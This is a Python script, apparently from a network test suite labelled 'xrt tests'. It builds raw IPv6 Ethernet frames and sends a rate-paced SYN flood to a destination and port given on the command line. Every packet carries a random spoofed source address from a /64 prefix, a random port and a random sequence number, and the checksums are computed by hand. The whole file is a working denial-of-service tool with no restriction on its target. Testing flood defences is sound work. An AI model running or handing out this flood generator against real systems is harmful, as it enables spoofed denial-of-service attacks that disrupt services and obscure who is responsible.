#!/usr/bin/env python3
# xrt tests: a paced spoofed SYN flood on an AF_PACKET socket (no scapy): COUNT SYNs at RATE/s to DST:PORT, each from a random source in PREFIX/64 with a random port and sequence number. The frames are built (checksums included) before the clock starts; sending is paced per millisecond, never more than BURST_MAX frames at once, so the flood is the stated rate and not a burst. Prints "sent N in MS ms".
import os, random, socket, struct, sys, time

BURST_MAX = 50  # frames sent back to back when catching up with the clock

def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def main():
    ifname, dst_mac, src_mac, prefix, dst, port, rate, count = sys.argv[1:9]
    port, rate, count = int(port), int(rate), int(count)
    eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x86\xdd"
    pfx = socket.inet_pton(socket.AF_INET6, prefix)[:8]
    daddr = socket.inet_pton(socket.AF_INET6, dst)
    rnd = random.Random(os.urandom(16))
    frames = []
    for _ in range(count):
        saddr = pfx + rnd.getrandbits(64).to_bytes(8, "big")
        tcp = struct.pack("!HHIIBBHHH", rnd.randrange(1024, 65536), port, rnd.getrandbits(32), 0,
                          6 << 4, 0x02, 65535, 0, 0) + b"\x02\x04\x05\xb4"  # MSS 1460
        pseudo = saddr + daddr + struct.pack("!I3xB", len(tcp), 6)
        c = csum(pseudo + tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip6 = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + saddr + daddr
        frames.append(eth + ip6 + tcp)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    t0 = time.monotonic()
    sent = 0
    while sent < count:
        due = min(count, int((time.monotonic() - t0) * rate) + 1)
        n = min(due - sent, BURST_MAX)
        for f in frames[sent:sent + n]:
            s.send(f)
        sent += n
        if sent >= due:
            time.sleep(0.001)
    ms = int((time.monotonic() - t0) * 1000)
    print("sent %d in %d ms" % (sent, ms))

main()
